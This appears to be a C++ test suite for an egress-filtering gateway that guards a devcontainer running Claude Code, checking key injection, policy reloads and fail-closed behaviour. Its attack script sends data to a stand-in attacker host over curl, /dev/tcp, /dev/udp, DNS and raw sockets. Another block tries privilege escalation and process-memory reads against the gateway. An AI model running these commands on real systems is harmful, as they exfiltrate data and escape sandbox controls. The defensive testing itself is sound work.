// The drop-in for init-firewall.sh: devcontainer.json of this repository, brought up by the real devcontainer CLI, and
// the real Claude Code in it. The cases run in order in one container, as a day's work does.

#include <doctest/doctest.h>

#include <algorithm>
#include <string>

#include "tests/support/devcontainer.hpp"

using namespace sallyport::test;

namespace {

/// Whatever they allow, the stand-in is the origin of.
const std::string kRules = R"(use = ["npm-install"]
[[allow]]
host = "api.anthropic.com"
[[allow]]
host = "api.github.com"
method = "GET"
path = "/zen"
[[secret]]
name = "anthropic"
host = "api.anthropic.com"
header = "x-api-key"
placeholder = "sk-ant-placeholder"
value = { file = "/run/sallyport/secrets/anthropic" }
)";

const std::string kAskApi = "curl -sS -m 10 https://api.anthropic.com/echo";
const std::string kAttacker = Devcontainer::kAttacker;

Devcontainer* container() {
    static const auto brought = Devcontainer::bring_up();
    return brought.get();
}

/// With the stand-ins as origins; made once.
Devcontainer* working() {
    static const bool made = [] {
        if (!container()) return false;
        container()->trust_origin();
        container()->write_policy(kRules + container()->routes());
        container()->as_root("kill -KILL $(cat /run/sallyport/gateway.pid)");
        container()->forget_what_left();
        const auto started = container()->as_node(Devcontainer::kFirewall);
        CHECK_MESSAGE(started.exited_with(0), started.shown());
        return true;
    }();
    return made ? container() : nullptr;
}

/// What a program in the container may try without any privilege.
const std::string kAttacks = "a=" + kAttacker + R"(
try() { timeout 3 "$@" >/dev/null 2>&1 & }
try curl -sk "https://$a/"
try curl -s "http://$a/" -H 'Host: attacker.example'
try curl -sk --resolve "attacker.example:443:$a" https://attacker.example/
try bash -c "echo sneaked >/dev/tcp/$a/4444"
try bash -c "echo sneaked >/dev/udp/$a/4444"
try bash -c "echo sneaked >/dev/udp/$a/53"
try bash -c "echo sneaked >/dev/tcp/$a/22"
try bash -c "echo sneaked >/dev/tcp/$(ip route | awk '/default/ { print $3 }')/22"
try dig +time=1 +tries=1 sneaked.attacker.example "@$a"
try dig +time=1 +tries=1 sneaked.attacker.example TXT
try ssh -o BatchMode=yes -o ConnectTimeout=2 "git@$a"
try perl -e 'use Socket; socket(S, AF_INET, SOCK_RAW, 1) and send(S, "sneaked", 0, sockaddr_in(0, inet_aton($ARGV[0])))' "$a"
wait
)";

bool nothing_leaves(const Devcontainer& container) {
    const auto packets = container.left_for_nowhere_allowed();
    for (const auto& packet : packets) MESSAGE(packet.dump());
    const auto all = container.left();
    return packets.empty() && std::none_of(all.begin(), all.end(), [](const nlohmann::json& packet) {
               return packet["text"].get<std::string>().find("sneaked") != std::string::npos;
           });
}

}  // namespace

TEST_CASE("devcontainer: up, it says what it checked, and every program trusts the gateway") {
    if (!container()) return;
    const auto again = container()->as_node(Devcontainer::kFirewall);
    CAPTURE(again.shown());
    CHECK(again.exited_with(0));
    CHECK(again.says("https://example.com cannot be reached, as it should be"));
    // With a network or without: the gateway answers, and is trusted.
    for (const auto* client : {"curl -sS -m 40 -o /dev/null -w '%{http_code}' https://api.github.com/zen",
                               "node -e 'fetch(\"https://api.github.com/zen\").then(r => console.log(r.status))'"}) {
        const auto answer = container()->as_node(client);
        CAPTURE(answer.shown());
        CHECK(answer.exited_with(0));
        CHECK((answer.says("200") || answer.says("403") || answer.says("502") || answer.says("504")));
    }
}

TEST_CASE("devcontainer: without a policy of one's own it allows what the original did, by name") {
    if (!container()) return;
    const auto decided = [](const std::string& request) {
        const auto told = container()->as_node("sallyport explain --policy /run/sallyport/policy.toml " + request);
        return told.out.substr(0, told.out.find(' '));
    };
    for (const auto* allowed :
         {"POST https://api.anthropic.com/v1/messages", "https://statsig.com/x", "https://sentry.io/x",
          "https://api.github.com/zen", "https://github.com/a/b/info/refs?service=git-receive-pack",
          "https://marketplace.visualstudio.com/x", "https://update.code.visualstudio.com/x"})
        CHECK_MESSAGE(decided(allowed) == "allowed", allowed);
    CHECK(decided("ssh://github.com") == "passed");
    for (const auto* denied : {"https://example.com/", "ssh://gitlab.com", "tcp://8.8.8.8:53", "ssh://198.51.100.66",
                               "POST https://api.github.com/gists", "tcp://172.17.0.1:80"})
        CHECK_MESSAGE(decided(denied) == "denied", denied);
}

TEST_CASE("devcontainer: what only the original let through is refused") {
    if (!working()) return;
    const auto ssh = working()->as_node("ssh -o BatchMode=yes -o ConnectTimeout=3 git@gitlab.com true");
    CHECK_FALSE(ssh.exited_with(0));
    CHECK(ssh.complains("Could not resolve hostname"));
    const auto published = working()->as_node(
        "mkdir -p /tmp/p && cd /tmp/p && echo '{\"name\":\"sneaked\",\"version\":\"1.0.0\"}' >package.json && "
        "r=$(npm config get registry) && npm publish \"--${r#https:}:_authToken=x\"");
    CHECK_FALSE(published.exited_with(0));
    CHECK_MESSAGE(published.complains("403"), published.shown());
    const auto gist = working()->as_node("curl -sS -X POST https://api.github.com/gists -d '{}'");
    CHECK(gist.says("sallyport refused this request"));
    CHECK(gist.says("/gists"));
}

TEST_CASE("devcontainer: the key is put in, and node finds it nowhere") {
    if (!working()) return;
    const auto asked = working()->as_node("echo $ANTHROPIC_API_KEY; " + kAskApi);
    CAPTURE(asked.shown());
    CHECK(asked.says(Devcontainer::kPlaceholder));
    CHECK(asked.says("\"key\": \"right\""));
    // In two parts, so that the search does not find itself.
    const std::string key = StandIn::kKey;
    const auto search = working()->as_node(
        "grep -rlsF -f <(printf '%s%s' '" + key.substr(0, 9) + "' '" + key.substr(9) +
        "') /run /var /etc /home /opt /root /tmp /usr/local /proc/[0-9]*/environ /proc/[0-9]*/cmdline; "
        "cat /var/lib/sallyport/host/secrets/anthropic /run/sallyport/secrets/anthropic");
    CHECK_MESSAGE(search.out.empty(), search.shown());
    CHECK(search.complains("Permission denied"));
    // The environment that everybody in the container has.
    CHECK_FALSE(working()->as_root("cat /proc/1/environ").says(StandIn::kKey));
}

TEST_CASE("devcontainer: node cannot touch the gateway, its rules or its script") {
    if (!working()) return;
    const auto tried = working()->as_node(R"(
pid=$(cat /run/sallyport/gateway.pid)
kill -KILL $pid && echo killed
cat /proc/$pid/environ && echo read
dd if=/proc/$pid/mem of=/dev/null count=1 && echo read
ls /proc/$pid/fd && echo read
sudo -n -u sallyport true && echo became
sudo -n true && echo became
su sallyport -s /bin/sh -c true </dev/null && echo became
setpriv --reuid sallyport true && echo became
sudo -n /usr/local/bin/init-firewall.sh --open && echo argued
sudo -n PATH=/tmp /usr/local/bin/init-firewall.sh && echo argued
echo >>/usr/local/bin/init-firewall.sh && echo wrote
echo >>/run/sallyport/policy.toml && echo wrote
flock -n /run/sallyport.lock true && echo locked
touch /etc/sallyport /run/sallyport/x /var/lib/sallyport/host/x && echo wrote
perl -e 'socket(S, 17, 3, 768) or exit 1' && echo packets
perl -e 'socket(S, 2, 1, 0) and setsockopt(S, 1, 36, pack("i", 1)) or exit 1' && echo marked
perl -e 'socket(S, 2, 3, 1) or exit 1' && echo raw
/usr/sbin/ip link add x type dummy && echo administered
grep -q 'CapEff:.0000000000000000' /proc/self/status || echo capable
true)");
    CHECK_MESSAGE(tried.out.empty(), tried.shown());
    CHECK(working()->as_node(kAskApi).says("right"));
}

TEST_CASE("devcontainer: nothing leaves but to where the policy says") {
    if (!working()) return;
    working()->as_node(kAttacks);
    CHECK(nothing_leaves(*working()));
}

TEST_CASE("devcontainer: without the guard the same attempts do leave, and are seen") {
    if (!container()) return;
    const auto packets = container()->left_unguarded(kAttacks);
    const auto seen = [&](int protocol, int port) {
        return std::any_of(packets.begin(), packets.end(), [&](const nlohmann::json& packet) {
            return packet["protocol"] == protocol && packet["to"] == kAttacker && packet["port"] == port;
        });
    };
    for (const int port : {22, 80, 443, 4444}) CHECK_MESSAGE(seen(6, port), port);
    for (const int port : {53, 4444}) CHECK_MESSAGE(seen(17, port), port);
}

TEST_CASE("devcontainer: a second call replaces rules and policy without a gap") {
    if (!working()) return;
    Program asking(working()->command_line("node", "for i in $(seq 60); do " + kAskApi + " || echo failed; done"),
                   working()->options());
    Program attacking(working()->command_line("node", "for i in 1 2 3; do " + kAttacks + "done"), working()->options());
    asking.first_line();
    for (int i = 0; i < 3; ++i) {
        const auto called = working()->as_node(Devcontainer::kFirewall);
        CHECK_MESSAGE(called.exited_with(0), called.shown());
    }
    const auto asked = asking.finish();
    CHECK(std::count(asked.out.begin(), asked.out.end(), '\n') == 60);
    CHECK_FALSE(asked.says("failed"));
    CHECK_FALSE(asked.says("wrong"));
    attacking.finish();
    CHECK(nothing_leaves(*working()));
}

TEST_CASE("devcontainer: a changed policy takes effect, a broken one leaves the old in force and says so") {
    if (!working()) return;
    working()->write_policy(kRules + working()->routes() +
                            "[[deny]]\nhost = \"api.anthropic.com\"\npath = \"/echo\"\n");
    CHECK(working()->as_node(Devcontainer::kFirewall).exited_with(0));
    CHECK(working()->as_node(kAskApi).says("sallyport refused"));

    working()->write_policy("allow everything\n");
    const auto broken = working()->as_node(Devcontainer::kFirewall);
    CHECK_FALSE(broken.exited_with(0));
    CHECK(broken.complains("policy.toml:1:"));
    CHECK(broken.complains("what was in force before stays in force"));
    CHECK(working()->as_node(kAskApi).says("sallyport refused"));

    working()->write_policy(kRules + working()->routes());
    CHECK(working()->as_node(Devcontainer::kFirewall).exited_with(0));
    CHECK(working()->as_node(kAskApi).says("right"));
}

TEST_CASE("devcontainer: a start that fails leaves everything closed, and so does a gateway that was killed") {
    if (!working()) return;
    working()->as_root("kill -KILL $(cat /run/sallyport/gateway.pid)");
    CHECK_FALSE(working()->as_node(kAskApi).exited_with(0));
    working()->as_node(kAttacks);

    working()->write_policy("allow everything\n");
    const auto failed = working()->as_node(Devcontainer::kFirewall);
    CHECK_FALSE(failed.exited_with(0));
    CHECK(failed.complains("the container is closed"));
    CHECK_FALSE(working()->as_node(kAskApi).exited_with(0));
    working()->as_node(kAttacks);
    CHECK(nothing_leaves(*working()));

    working()->write_policy(kRules + working()->routes());
    const auto started = working()->as_node(Devcontainer::kFirewall);
    CHECK_MESSAGE(started.exited_with(0), started.shown());
    CHECK(working()->as_node(kAskApi).says("right"));
}

TEST_CASE("devcontainer: Claude Code works in it, with a key that it never had") {
    if (!working()) return;
    const auto before = working()->origin().requests().size();
    const auto ran = working()->exec("claude -p 'say pong' </dev/null");
    CAPTURE(ran.shown());
    CHECK(ran.exited_with(0));
    CHECK(ran.says("pong\n"));
    const auto requests = working()->origin().requests();
    CHECK(requests.size() > before);
    for (const auto& request : requests) {
        CHECK(request["headers"].value("x-api-key", StandIn::kKey) == StandIn::kKey);
        CHECK(request.dump().find(Devcontainer::kPlaceholder) == std::string::npos);
    }
    CHECK(nothing_leaves(*working()));
}

TEST_CASE("devcontainer: after a stop it comes up again, guarded") {
    if (!working()) return;
    working()->stop();
    const auto up = working()->up();
    CHECK_MESSAGE(up.exited_with(0), up.shown());
    CHECK(working()->as_node(kAskApi).says("right"));
    working()->as_node(kAttacks);
    CHECK(nothing_leaves(*working()));
}

TEST_CASE("devcontainer: the CLI finds it without being told where") {
    if (!container()) return;
    const auto found = container()->found_by_default();
    CAPTURE(found.shown());
    CHECK(found.says("guarded by Sallyport"));
    CHECK(found.says("init-firewall.sh"));
}
